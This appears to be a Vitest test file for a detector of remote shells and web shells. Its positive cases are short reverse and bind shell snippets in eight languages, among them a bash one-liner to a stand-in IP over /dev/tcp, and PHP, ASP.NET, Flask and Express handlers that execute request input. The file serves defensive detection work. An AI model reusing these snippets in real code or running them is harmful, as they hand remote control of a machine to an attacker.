import { describe, expect, it } from 'vitest'
import { isRemoteShell, isWebShell } from './remote-shells.ts'

describe('a shell for somebody else, in any language', () => {
  const found: readonly [string, string][] = [
    [
      'C, connecting',
      'int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, a, n); dup2(s, 0); dup2(s, 1); execve("/bin/sh", v, 0);',
    ],
    [
      'C, listening',
      'int s = socket(2, 1, 0); bind(s, a, n); listen(s, 1); int c = accept(s, 0, 0); dup2(c, 0); execl("/bin/bash", 0);',
    ],
    ['Go', 'c, _ := net.Dial("tcp", addr); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run()'],
    [
      'Rust',
      'let s = TcpStream::connect(a)?; let f = s.as_raw_fd(); Command::new("bash").stdin(unsafe { Stdio::from_raw_fd(f) }).spawn()',
    ],
    [
      'Java',
      'Socket s = new Socket(host, port); Process p = Runtime.getRuntime().exec("/bin/sh"); copy(p.getInputStream(), s.getOutputStream());',
    ],
    [
      'Python, joined',
      'import socket,os,pty\ns=socket.socket()\ns.connect(a)\nos.dup2(s.fileno(),0)\npty.spawn("/bin/bash")',
    ],
    [
      'Python, command by command',
      's = socket.socket()\ns.connect(a)\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.getoutput(c).encode())',
    ],
    ['JavaScript', 'const c = net.connect(9001, h); const sh = spawn("sh", []); c.pipe(sh.stdin); sh.stdout.pipe(c)'],
    [
      'Lua',
      'local t = socket.tcp() t:connect(h, p) local c = t:receive() local f = io.popen(c, "r") t:send(f:read("*a"))',
    ],
    ['a shell script', 'bash -i >& /dev/tcp/192.0.2.1/9001 0>&1'],
  ]
  for (const [name, text] of found) it(`found: ${name}`, () => expect(isRemoteShell(text)).toBe(true))

  const ordinary: readonly [string, string][] = [
    ['an echo server', 'net.createServer((c) => { c.pipe(c) }).listen(9001)'],
    ['an HTTP client over a socket', 's = socket.socket()\ns.connect(a)\ns.send(b"GET /")\nprint(s.recv(1024))'],
    ['a wrapper of a program', 'out = subprocess.run(["git", "status"], stdout=subprocess.PIPE)'],
    [
      'a shell with a fixed command beside a server',
      'net.createServer(f).listen(1); spawn("bash", ["-c", "npm run build"], { stdio: "inherit" })',
    ],
    ['a terminal in a window', 'const p = pty.spawn("/bin/bash", [], {}); p.onData((d) => screen.write(d))'],
    ['a database client and a script', 'await client.connect(); spawn("bash", ["-c", "make"]); log.pipe(out)'],
    ['a port check', '$c = New-Object Net.Sockets.TcpClient; $c.Connect("db", 5432); $c.Close()'],
    [
      'a health check',
      'c, err := net.Dial("tcp", addr); if err == nil { c.Close() }; exec.Command("sh", "-c", "make").Run()',
    ],
  ]
  for (const [name, text] of ordinary) it(`ordinary: ${name}`, () => expect(isRemoteShell(text)).toBe(false))
})

describe('a page that runs what a request says', () => {
  const rows: readonly [string, string, boolean][] = [
    ['PHP, directly', '<?php system($_GET["c"]); ?>', true],
    ['PHP, through a variable', '<?php $c = $_POST["c"]; echo shell_exec($c);', true],
    ['ASP.NET', 'p.StartInfo.Arguments = "/c " + Request["c"]; p.Start();', true],
    ['Flask', 'cmd = request.args.get("c")\nos.system(cmd)', true],
    ['Express', 'const c = req.query.c; execSync(c)', true],
    ['a query of a database', 'const id = req.params.id; db.exec(sql`select ${id}`)', false],
    ['a search pattern', 'const m = pattern.exec(req.query.text)', false],
    ['a form that is stored', '$name = $_POST["name"]; save($name);', false],
    ['a fixed command in a handler', 'const id = req.params.id; execSync("make build"); res.send(id)', false],
  ]
  for (const [name, text, expected] of rows) it(name, () => expect(isWebShell(text)).toBe(expected))
})
